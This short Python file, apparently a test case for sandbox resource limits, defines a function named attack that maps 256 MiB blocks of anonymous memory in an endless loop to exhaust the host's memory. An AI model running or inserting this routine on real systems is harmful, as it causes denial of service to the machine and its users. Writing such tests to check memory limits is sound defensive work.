"""Maps memory without end."""


def attack(t):
    import mmap
    maps = []
    while True:
        maps.append(mmap.mmap(-1, 2**28))
